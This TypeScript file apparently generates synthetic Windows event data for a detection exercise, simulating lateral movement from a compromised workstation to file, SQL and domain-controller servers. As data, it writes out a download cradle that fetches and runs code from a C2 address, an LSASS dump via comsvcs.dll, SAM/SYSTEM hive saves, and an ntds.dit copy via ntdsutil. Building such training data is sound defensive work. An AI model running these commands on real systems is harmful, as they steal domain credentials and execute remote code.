import { EventFactory, system32, wellKnown, type ProcRef } from "../event-factory";
import { hostByName } from "../hosts";
import { createRandom, hash32 } from "../random";
import { powershellSession, winrsSession } from "../remoting";
import { HOUR, MINUTE, quiet, SECOND } from "../schedule";
import { userOf } from "./background-noise";

/**
 * The attack an analyst should find. From the compromised WKS-017 (10.13.37.5), with the stolen
 * CORP\svc-backup account: PowerShell remoting into SRV-FILE-01 (discovery, an encoded download
 * cradle that dumps LSASS), then WinRS from SRV-FILE-01 (10.20.1.21) into SRV-SQL-02 (registry
 * hives saved) and DC-01 (an IFM copy of ntds.dit). Two near misses on the way do not alert: a
 * child 40 s after its connection (SRV-APP-03) and a lone conhost.exe (SRV-WEB-04).
 */
export const FOOTHOLD = "WKS-017";
export const STOLEN_ACCOUNT = "CORP\\svc-backup";
export const C2_IP = "185.220.101.34";
export const INTRUDER_TARGETS = ["SRV-FILE-01", "SRV-SQL-02", "DC-01"] as const;
export const NEAR_MISS_HOSTS = ["SRV-APP-03", "SRV-WEB-04"] as const;
export const XSS_COMMAND_LINE = 'cmd.exe /c echo "<script>alert(1)</script>" > C:\\Users\\Public\\r.html';

const CRADLE = `IEX (New-Object Net.WebClient).DownloadString('http://${C2_IP}/a.ps1')`;
export const ENCODED_COMMAND = `powershell.exe -NoP -W Hidden -enc ${Buffer.from(CRADLE, "utf16le").toString("base64")}`;
const PS = system32("WindowsPowerShell\\v1.0\\powershell.exe");

export function intruder(seed: number, end: number): EventFactory {
  const f = new EventFactory(`demo${seed}-intr`);
  const r = createRandom(seed ^ hash32("intruder"));
  const wks = hostByName(FOOTHOLD);
  const file = hostByName("SRV-FILE-01");
  const victim = userOf(wks);

  // The foothold: a hidden PowerShell on WKS-017 beaconing to the C2.
  const t0 = quiet(end - 6 * HOUR);
  const beacon = f.start(wks, t0 - 20 * MINUTE, {
    name: "powershell.exe",
    executable: PS,
    commandLine: "powershell.exe -NoP -W Hidden -c \"iwr http://185.220.101.34/s.ps1 | iex\"",
    parent: { ...wellKnown(wks, "explorer"), user: victim },
    user: victim,
  });
  f.outbound(beacon, t0 - 19 * MINUTE, { ip: C2_IP, port: 80, protocol: "http" });
  const client = { ...beacon, user: STOLEN_ACCOUNT };

  const hop: { stager?: ProcRef } = {};
  powershellSession(f, r, t0, {
    target: file,
    source: { ip: wks.ip, client },
    user: STOLEN_ACCOUNT,
    commands: [
      { name: "whoami.exe", commandLine: "\"C:\\Windows\\system32\\whoami.exe\" /all" },
      {
        name: "net.exe",
        commandLine: 'net group "domain admins" /domain',
        then: (net, at) => void f.start(file, at + 30, { name: "net1.exe", commandLine: 'C:\\Windows\\system32\\net1 group "domain admins" /domain', parent: net }),
      },
      { name: "cmd.exe", commandLine: XSS_COMMAND_LINE, then: (cmd, at) => f.file(cmd, at + 80, "C:\\Users\\Public\\r.html") },
      {
        name: "powershell.exe",
        executable: PS,
        commandLine: ENCODED_COMMAND,
        then: (ps, at) => {
          hop.stager = ps;
          f.outbound(ps, at + 900, { ip: C2_IP, port: 80, protocol: "http" });
          const dump = f.start(file, at + 6 * SECOND, {
            name: "rundll32.exe",
            commandLine: "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 724 C:\\Windows\\Temp\\lsass.dmp full",
            parent: ps,
          });
          f.file(dump, at + 7 * SECOND, "C:\\Windows\\Temp\\lsass.dmp");
        },
      },
    ],
  });

  // Near misses, between the first hop and the next ones.
  const t1 = quiet(end - 5 * HOUR);
  powershellSession(f, r, t1, {
    target: hostByName("SRV-APP-03"),
    source: { ip: wks.ip, client },
    user: STOLEN_ACCOUNT,
    commands: [{ name: "whoami.exe", commandLine: "whoami.exe /priv", delayMs: 40 * SECOND }],
  });
  powershellSession(f, r, quiet(t1 + 20 * MINUTE), {
    target: hostByName("SRV-WEB-04"),
    source: { ip: wks.ip, client },
    user: STOLEN_ACCOUNT,
    commands: [{ name: "conhost.exe", commandLine: `\\??\\${system32("conhost.exe")} 0xffffffff -ForceV1` }],
  });

  // Second hop: WinRS from SRV-FILE-01.
  const from = hop.stager ?? wellKnown(file, "explorer");
  const winrs = (target: string, at: number, commands: [string, string, string][]) => {
    const host = hostByName(target);
    const cli = f.start(file, at - 2 * SECOND, { name: "winrs.exe", commandLine: `winrs.exe -r:${target.toLowerCase()} -u:${STOLEN_ACCOUNT} cmd`, parent: from, user: STOLEN_ACCOUNT });
    winrsSession(f, r, at, {
      target: host,
      source: { ip: file.ip, client: cli },
      user: STOLEN_ACCOUNT,
      commands: commands.map(([commandLine, tool, toolLine]) => ({
        name: "cmd.exe",
        commandLine,
        then: (cmd: ProcRef, t: number) => void f.start(host, t + 200, { name: tool, commandLine: toolLine, parent: cmd }),
      })),
    });
  };
  winrs("SRV-SQL-02", quiet(end - 4 * HOUR), [
    ["cmd.exe /c reg save HKLM\\SAM C:\\Windows\\Temp\\sam.save /y", "reg.exe", "reg  save HKLM\\SAM C:\\Windows\\Temp\\sam.save /y"],
    ["cmd.exe /c reg save HKLM\\SYSTEM C:\\Windows\\Temp\\sys.save /y", "reg.exe", "reg  save HKLM\\SYSTEM C:\\Windows\\Temp\\sys.save /y"],
  ]);
  winrs("DC-01", quiet(end - 3 * HOUR), [
    ["cmd.exe /c vssadmin list shadows", "vssadmin.exe", "vssadmin  list shadows"],
    [
      'cmd.exe /c ntdsutil "ac i ntds" "ifm" "create full C:\\Windows\\Temp\\ifm" q q',
      "ntdsutil.exe",
      'ntdsutil  "ac i ntds" "ifm" "create full C:\\Windows\\Temp\\ifm" q q',
    ],
  ]);
  return f;
}
